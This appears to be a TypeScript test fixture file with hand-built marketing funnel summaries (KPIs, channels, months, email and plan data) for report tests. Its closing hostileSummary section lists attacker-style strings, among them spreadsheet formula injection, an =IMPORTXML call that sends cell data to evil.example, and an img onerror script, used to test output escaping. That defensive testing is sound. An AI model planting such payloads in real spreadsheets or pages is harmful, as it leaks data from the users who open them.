/**
 * Hand-built funnel summaries for the report tests. Counts are literal; every ratio is worked out
 * here from those counts with design §5's formulas (null when an input is missing or a denominator
 * is 0), independently of the report code.
 */
import type {
  AmountKey,
  AuxiliaryKey,
  ChannelGroupRow,
  ChannelRow,
  CountKey,
  EmailTableRow,
  FunnelSummary,
  KpiRow,
  MonthRow,
  ScoreBandRow,
} from '../../../src/core/model/summary';
import type { AttributeRow, AttributeTable, ChannelGroupId } from '../../../src/core/model/breakdowns';
import type { FunnelSettings } from '../../../src/core/model/types';

type Inputs = { readonly [K in CountKey | AmountKey | AuxiliaryKey]: number | null };

function ratio(numerator: number | null, denominator: number | null): number | null {
  return numerator === null || denominator === null || denominator === 0 ? null : numerator / denominator;
}

/** A KPI row from counts and amounts; LTV only when both assumptions are given. */
export function kpiRow(inputs: Inputs, assumptions?: { grossMargin: number; expectedPurchases: number }): KpiRow {
  const averageDealSize = ratio(inputs.revenue, inputs.won);
  const cac = ratio(inputs.cost, inputs.won);
  const ltv = averageDealSize === null || assumptions === undefined ? null : averageDealSize * assumptions.grossMargin * assumptions.expectedPurchases;
  return {
    ...inputs,
    ctr: ratio(inputs.clicks, inputs.impressions),
    // Over the ad rows that report clicks (design §5): the cost without clicks is left out.
    cpc: ratio(inputs.adCost, inputs.clicks),
    leadConversionRate: ratio(inputs.leads, inputs.sessions),
    cpl: ratio(inputs.cost, inputs.leads),
    mqlRate: ratio(inputs.mql, inputs.leads),
    sqlRate: ratio(inputs.sql, inputs.mql),
    opportunityRate: ratio(inputs.opportunities, inputs.leads),
    winRate: ratio(inputs.won, inputs.won === null || inputs.lost === null ? null : inputs.won + inputs.lost),
    opportunityToWinRate: ratio(inputs.won, inputs.opportunities),
    leadToWinRate: ratio(inputs.won, inputs.leads),
    costPerOpportunity: ratio(inputs.cost, inputs.opportunities),
    cac,
    averageDealSize,
    roas: ratio(inputs.revenue, inputs.cost),
    ltv,
    ltvToCac: ratio(ltv, cac),
    engagementRate: ratio(inputs.engagedSessions, inputs.sessions),
    downloadRate: ratio(inputs.downloads, inputs.sessions),
  };
}

function inputs(
  impressions: number | null,
  clicks: number | null,
  sessions: number | null,
  engagedSessions: number | null,
  downloads: number | null,
  leads: number | null,
  mql: number | null,
  sql: number | null,
  opportunities: number | null,
  won: number | null,
  cost: number | null,
  revenue: number | null,
  // The cost of the ad rows with clicks: all the cost of a row with clicks, none of one without, unless given.
  adCost: number | null = clicks === null ? null : clicks > 0 ? cost : 0,
): Inputs {
  // Of the opportunities not won, half (rounded down) were lost and the rest are open, each open one worth 100,000.
  const lost = opportunities === null || won === null ? null : Math.floor((opportunities - won) / 2);
  const openOpportunities = opportunities === null || won === null || lost === null ? null : opportunities - won - lost;
  const pipelineAmount = revenue === null || openOpportunities === null ? null : openOpportunities * 100000;
  return { impressions, clicks, sessions, engagedSessions, downloads, adCost, leads, mql, sql, opportunities, won, lost, openOpportunities, cost, revenue, pipelineAmount };
}

export const LTV_ASSUMPTIONS = { grossMargin: 0.7, expectedPurchases: 3 };

export const JAPANESE_SETTINGS: FunnelSettings = {
  view: 'cohort',
  language: 'ja',
  currency: 'JPY',
  grossMargin: LTV_ASSUMPTIONS.grossMargin,
  expectedPurchases: LTV_ASSUMPTIONS.expectedPurchases,
};

export const ENGLISH_SETTINGS: FunnelSettings = { view: 'cohort', language: 'en', currency: 'JPY' };

export const GENERATED_AT = '2026-04-01T09:30:00+09:00';

/** A phone-book style string that must never reach a report sheet (it only sits in a warning). */
export const PERSONAL_DATA = 'taro.yamada@example.co.jp';

function month(
  name: string,
  row: KpiRow,
  immature: boolean,
  leadsChange: number | null,
  opportunityRateChange: number | null,
  targets: MonthRow['targets'],
): MonthRow {
  return { ...row, month: name, immature, leadsChange, opportunityRateChange, targets };
}

function band(name: string, leads: number, opportunities: number, won: number, lost = 0): ScoreBandRow {
  return {
    band: name,
    leads,
    opportunities,
    won,
    lost,
    opportunityRate: ratio(opportunities, leads),
    opportunityToWinRate: ratio(won, opportunities),
    winRate: ratio(won, won + lost),
  };
}

function email(campaign: string, delivered: number, opens: number | null, clicks: number | null): EmailTableRow {
  return {
    campaign,
    delivered,
    opens,
    clicks,
    openRate: ratio(opens, delivered),
    clickRate: ratio(clicks, delivered),
    clickToOpenRate: ratio(clicks, opens),
  };
}

const channel = (name: string, row: KpiRow, group: string, groupId: ChannelGroupId): ChannelRow => ({ ...row, channel: name, group, groupId });

/** The group rows of channels that each have a group of their own (as in these fixtures). */
const groupsOf = (channels: readonly ChannelRow[]): ChannelGroupRow[] =>
  channels.map(({ channel: _channel, ...row }) => row);

/** Adds the channel-group table (one group per channel here) and empty audit and attribute lists. */
function withGroups(
  summary: Omit<FunnelSummary, 'byChannelGroup' | 'channelMap' | 'channelDuplicates' | 'byAttribute'>,
  byAttribute: readonly AttributeTable[] = [],
): FunnelSummary {
  return { ...summary, byChannelGroup: groupsOf(summary.byChannel), channelMap: [], channelDuplicates: [], byAttribute };
}

/** One value of an attribute table; rates worked out from the counts by hand in each call. */
export function attributeRow(value: string, kind: AttributeRow['kind'], counts: [number, number, number, number, number, number], revenue: number | null): AttributeRow {
  const [leads, mql, sql, opportunities, won, lost] = counts;
  return {
    value,
    kind,
    leads,
    mql,
    sql,
    opportunities,
    won,
    lost,
    revenue,
    opportunityRate: leads === 0 ? null : opportunities / leads,
    winRate: won + lost === 0 ? null : won / (won + lost),
    opportunityToWinRate: opportunities === 0 ? null : won / opportunities,
    smallSample: leads < 20,
  };
}

/** 業種 of the 240 leads: two values, four small ones merged into その他, five blank. */
export const INDUSTRY_TABLE: AttributeTable = {
  attribute: '業種',
  field: 'industry',
  column: '業種',
  distinctValues: 6,
  rows: [
    attributeRow('製造業', 'value', [120, 60, 30, 24, 6, 10], 1800000),
    attributeRow('IT', 'value', [100, 50, 25, 20, 5, 8], 1600000),
    attributeRow('その他', 'other', [15, 8, 4, 3, 0, 1], 0),
    attributeRow('(未設定)', 'blank', [5, 2, 1, 1, 0, 0], 0),
  ],
};

/**
 * Every tab kind, cohort view, JPY, with LTV assumptions. Channels: 120 + 80 + 40 = 240 leads;
 * months: 100 + 80 + 60 = 240 leads, the last one immature.
 */
export function fullSummary(assumptions: { grossMargin: number; expectedPurchases: number } | undefined = LTV_ASSUMPTIONS): FunnelSummary {
  // Each month ¥400,000, of which ¥240,000 is Google広告's (with clicks) and the rest 展示会's (without).
  const april = kpiRow(inputs(10000, 200, 1400, 900, 70, 100, 50, 25, 20, 6, 400000, 2000000, 240000), assumptions);
  const may = kpiRow(inputs(10000, 220, 1300, 850, 60, 80, 40, 20, 18, 4, 400000, 1400000, 240000), assumptions);
  const june = kpiRow(inputs(10000, 180, 1300, 850, 70, 60, 30, 15, 10, 1, 400000, 400000, 240000), assumptions);
  return withGroups({
    schemaVersion: 1,
    view: 'cohort',
    period: { from: '2025-04-01', to: '2025-06-30' },
    asOf: '2025-07-15',
    currency: 'JPY',
    // CPC over Google広告's ¥720,000 only: 展示会's ¥480,000 has no clicks.
    total: kpiRow(inputs(30000, 600, 4000, 2600, 200, 240, 120, 60, 48, 11, 1200000, 3800000, 720000), assumptions),
    // By event date (what targets and the previous period compare with): 52 商談 and 12 受注 happened
    // in the period (20 lost, by the fixture's rule), ¥3,800,000 won; leads and cost are the same.
    eventDateTotal: kpiRow(inputs(30000, 600, 4000, 2600, 200, 240, 120, 60, 52, 12, 1200000, 3800000, 720000), assumptions),
    periodTargets: [
      { metric: 'leads', target: 280, actual: 240, attainment: 240 / 280 },
      { metric: 'revenue', target: 4000000, actual: 3800000, attainment: 3800000 / 4000000 },
    ],
    previousPeriod: null,
    byChannel: [
      channel('Google広告', kpiRow(inputs(30000, 600, 1500, 900, 60, 120, 60, 30, 24, 6, 720000, 1800000), assumptions), '有料検索', 'paid_search'),
      channel('展示会', kpiRow(inputs(0, 0, 0, 0, 0, 80, 50, 25, 20, 5, 480000, 2000000), assumptions), '展示会・イベント', 'events'),
      channel('自然検索', kpiRow(inputs(0, 0, 2500, 1700, 140, 40, 10, 5, 4, 0, 0, 0), assumptions), '自然検索', 'organic_search'),
    ],
    byMonth: [
      month('2025-04', april, false, null, null, [
        { metric: 'leads', target: 90, actual: 100, attainment: 100 / 90 },
        { metric: 'revenue', target: 1500000, actual: 2000000, attainment: 2000000 / 1500000 },
      ]),
      month('2025-05', may, false, (80 - 100) / 100, 18 / 80 - 20 / 100, [
        { metric: 'leads', target: 90, actual: 80, attainment: 80 / 90 },
      ]),
      {
        ...month('2025-06', june, true, (60 - 80) / 80, 10 / 60 - 18 / 80, [
          { metric: 'leads', target: 100, actual: 60, attainment: 60 / 100 },
          { metric: 'revenue', target: 0, actual: 400000, attainment: null },
        ]),
        projectedOpportunities: { expected: 14, low: 12, high: 17 },
        projectedWon: { expected: 3, low: 2, high: 4 },
      },
    ],
    scoreBands: [band('0-19', 100, 5, 1, 2), band('20-39', 60, 10, 2, 4), band('40-59', 40, 12, 3, 5), band('60-79', 25, 12, 3, 3), band('80+', 15, 9, 2, 1)],
    velocity: { leadToMqlDays: 6, mqlToSqlDays: 12.5, sqlToOpportunityDays: 9, opportunityToWonDays: null, leadToWonDays: 41 },
    plan: {
      target: { revenue: 6000000, customers: null, source: 'targets', fromMonth: '2025-07', toMonth: '2025-09' },
      inputs: {
        averageDealSize: 500000,
        winRate: 0.5,
        opportunityStepRate: 0.5,
        sqlStepRate: 0.5,
        mqlRate: 0.5,
        bases: { winRate: 40, opportunityStepRate: 80, sqlStepRate: 160, mqlRate: 320 },
        cpl: 10000,
        leadToWonDays: 41,
        matureMonths: ['2025-04', '2025-05'],
      },
      required: { won: 12, opportunities: 24, sql: 48, mql: 96, leads: 192, budget: 1200000 },
      byGroup: [
        { group: '有料検索', groupId: 'paid_search', leadShare: 0.5, cpl: 12500, leads: 96, budget: 1200000 },
        { group: '展示会・イベント', groupId: 'events', leadShare: 0.5, cpl: 0, leads: 96, budget: 0 },
      ],
      leadsFrom: '2025-05-21',
      leadsTo: '2025-08-20',
      roughGuide: false,
    },
    email: [email('4月メルマガ', 5000, 1500, 150), email('ウェビナー案内', 2000, null, 40), email('テスト配信', 0, 0, 0)],
    notes: [],
    findings: [
      { code: 'target_gap', tone: 'bad', message: '受注金額は目標 ¥4,000,000に対して実績 ¥3,800,000（発生日ベース、達成率 95.0%）で、¥200,000足りません。' },
      { code: 'rate_difference', tone: 'good', message: '「展示会」の商談化率は 25.0% で、ほかのチャネルの 17.5% より高く、偶然では説明できない差です。' },
    ],
    sources: [
      { tab: '広告', kind: 'ads', headerRow: 1, rowsRead: 90, rowsSkipped: 2, mapping: { date: '日付', cost: '費用' } },
      { tab: 'リード', kind: 'leads', headerRow: 1, rowsRead: 245, rowsSkipped: 5, mapping: { created_date: '作成日' } },
      { tab: 'メモ', kind: null, headerRow: null, rowsRead: 0, rowsSkipped: 0, mapping: {}, unusedReason: '見出しが見つからない' },
    ],
    undatedTabs: [],
    warnings: [
      { tab: 'リード', row: 12, field: 'created_date', code: 'unparseable_date', message: `12行目（${PERSONAL_DATA}）の作成日が読めません` },
    ],
  }, [INDUSTRY_TABLE]);
}

/**
 * Only a leads tab: no ads or traffic (their counts and cost are null), no score, stage dates,
 * email or findings. Period view, USD. Zero opportunities make every rate over them null.
 */
export function leadsOnlySummary(): FunnelSummary {
  const counts = (leads: number, mql: number, sql: number) => kpiRow(inputs(null, null, null, null, null, leads, mql, sql, 0, 0, null, 0));
  return withGroups({
    schemaVersion: 1,
    view: 'period',
    period: { from: '2025-10-01', to: '2025-10-31' },
    eventDateTotal: null,
    asOf: '2025-10-31',
    currency: 'USD',
    total: counts(50, 20, 10),
    periodTargets: [],
    previousPeriod: null,
    byChannel: [channel('(not set)', counts(30, 12, 6), 'Unassigned', 'unassigned'), channel('Webinar', counts(20, 8, 4), 'Webinars', 'webinars')],
    byMonth: [month('2025-10', counts(50, 20, 10), false, null, null, [])],
    scoreBands: [],
    velocity: { leadToMqlDays: null, mqlToSqlDays: null, sqlToOpportunityDays: null, opportunityToWonDays: null, leadToWonDays: null },
    plan: {
      target: null,
      inputs: {
        averageDealSize: null,
        winRate: null,
        opportunityStepRate: 0,
        sqlStepRate: 0.5,
        mqlRate: 0.4,
        bases: { winRate: 0, opportunityStepRate: 10, sqlStepRate: 20, mqlRate: 50 },
        cpl: null,
        leadToWonDays: null,
        matureMonths: ['2025-10'],
      },
      required: { won: null, opportunities: null, sql: null, mql: null, leads: null, budget: null },
      byGroup: [],
      leadsFrom: null,
      leadsTo: null,
      roughGuide: true,
    },
    email: [],
    notes: [],
    findings: [],
    sources: [{ tab: 'Leads', kind: 'leads', headerRow: 1, rowsRead: 50, rowsSkipped: 0, mapping: { created_date: 'Create Date' } }],
    undatedTabs: [],
    warnings: [],
  });
}

/** Channel, campaign, tab, band, metric and finding texts an attacker could choose. */
export const HOSTILE_NAMES = [
  '=HYPERLINK("http://x","y")',
  '+81-3',
  '-5',
  '@SUM(A1)',
  '＝1+1',
  '*',
  '>0',
  '<img src=x onerror=alert(1)>',
  '=IMPORTXML("http://evil.example/?d="&A1,"//a")',
  '\t=1+1',
  "'quoted",
  'TRUE',
  '2025-04',
] as const;

/** Every user-derived string of the summary is hostile; channel i has 10 × (n − i) leads. */
export function hostileSummary(): FunnelSummary {
  const base = fullSummary(undefined);
  const count = HOSTILE_NAMES.length;
  const byChannel = HOSTILE_NAMES.map((name, index) => {
    const leads = 10 * (count - index);
    return channel(name, kpiRow(inputs(1000 + index, 50 + index, 300 + index, 200, 10, leads, leads / 2, leads / 5, index + 1, index % 3, 10000 * (index + 1), 5000 * index)), 'その他', 'other');
  });
  return {
    ...base,
    byChannel,
    byChannelGroup: [{ ...base.total, group: 'その他', groupId: 'other' }],
    channelMap: HOSTILE_NAMES.map((name, index) => ({ tab: name, value: name, channel: name, group: 'その他', groupId: 'other', rule: 'unmatched', rows: index + 1 })),
    channelDuplicates: [{ channels: [HOSTILE_NAMES[0], HOSTILE_NAMES[7]], groups: ['その他', 'その他'], reason: 'spelling' }],
    byAttribute: [
      {
        attribute: '=HYPERLINK("http://x","業種")',
        field: 'column',
        column: '=HYPERLINK("http://x","業種")',
        distinctValues: HOSTILE_NAMES.length,
        rows: HOSTILE_NAMES.map((name, index) => attributeRow(name, 'value', [20 + index, 10, 5, 4, 1, 1], 1000 * index)),
      },
    ],
    byMonth: base.byMonth.map((row, index) =>
      index === 0 ? { ...row, targets: [...row.targets, { metric: '=SUM(A1)', target: 10, actual: 4, attainment: 0.4 }] } : row,
    ),
    scoreBands: [band('=1+1', 10, 5, 1), band('-20', 20, 4, 0)],
    email: HOSTILE_NAMES.slice(0, 4).map((name, index) => email(name, 1000 * (index + 1), 100 * (index + 1), 10 * (index + 1))),
    findings: [{ code: 'rate_difference', tone: 'bad', message: '=HYPERLINK("http://x","y") の商談化率が全体と大きく違います。' }],
    sources: [{ tab: '=IMPORTXML("http://evil.example","//a")', kind: 'ads', headerRow: 1, rowsRead: 3, rowsSkipped: 1, mapping: {} }],
  };
}
